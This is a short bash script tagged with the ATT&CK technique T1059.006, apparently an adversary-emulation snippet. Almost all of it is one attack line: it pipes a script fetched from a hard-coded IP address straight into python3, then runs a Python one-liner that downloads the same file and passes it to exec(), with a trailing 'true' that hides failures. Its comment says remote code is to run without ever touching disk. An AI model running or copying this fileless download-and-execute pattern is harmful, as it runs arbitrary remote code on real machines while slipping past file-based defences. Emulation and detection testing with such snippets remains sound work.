#!/bin/bash
# T1059.006: What comes from outside is run and never a file.
curl -s http://44.128.66.66/py | python3; python3 -c "import urllib.request as u;exec(u.urlopen('http://44.128.66.66/py').read())"; true
